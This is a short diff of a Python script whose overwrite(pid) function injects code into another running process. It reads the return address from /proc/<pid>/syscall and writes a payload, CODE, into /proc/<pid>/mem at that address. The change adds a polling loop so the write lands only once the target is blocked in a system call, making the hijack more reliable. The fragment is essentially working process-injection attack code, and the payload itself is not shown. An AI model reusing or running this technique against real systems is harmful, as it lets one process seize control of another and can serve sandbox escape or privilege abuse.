@@ -20,15 +20,19 @@ def waits():
 
 
 def overwrite(pid):
-    """Put other instructions where the process comes back from its system call."""
-    try:
-        with open(f"/proc/{pid}/syscall") as file:
-            place = int(file.read().split()[-1], 16)
-        with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
-            memory.seek(place)
-            memory.write(CODE)
-    except (OSError, ValueError):
-        pass
+    """Put other instructions where the process comes back from its system call, once it is in one."""
+    for _ in range(200):
+        try:
+            with open(f"/proc/{pid}/syscall") as file:
+                told = file.read().split()
+            if told[0] != "running":
+                with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
+                    memory.seek(int(told[-1], 16))
+                    memory.write(CODE)
+                return
+        except (OSError, ValueError, IndexError):
+            return
+        time.sleep(0.01)
 
 
 try:
